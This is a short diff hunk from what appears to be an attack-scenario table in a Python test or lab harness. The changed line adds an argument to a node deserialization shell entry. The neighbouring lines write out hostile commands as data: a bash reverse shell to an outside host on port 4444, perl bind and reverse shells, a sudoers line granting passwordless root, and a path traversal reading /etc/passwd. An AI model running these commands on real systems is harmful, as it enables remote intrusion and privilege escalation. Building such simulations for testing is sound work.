@@ -95,7 +95,7 @@ ATTACKS = (
     run("scan of the neighbours with bash", "cache", SCAN),
     by("inject", "command injection: reverse shell with bash", "portal", f"bash -c 'bash -i >& /dev/tcp/{OUTSIDE}/4444 0>&1'", reached=("portal",)),
     run("bind shell with perl", "files", LISTENER, apart=True, worker=True),
-    by("deserialize", "API's shell joined to a socket by node", "api", NODE_SHELL, reached=("api",)),
+    by("deserialize", "API's shell joined to a socket by node", "api", NODE_SHELL, objects=(OUTSIDE,), reached=("api",)),
     by("ssh", "rights of sudo extended", "login", "carla", "echo 'anna ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/90-anna"),
     by("sql", "reverse shell with perl from the database", "database", program(perl(PERL_SHELL)), reached=("database",)),
     by("include", "any file shown as a page", "portal", "../../../../etc/passwd", objects=("etc/passwd",), starts=False),
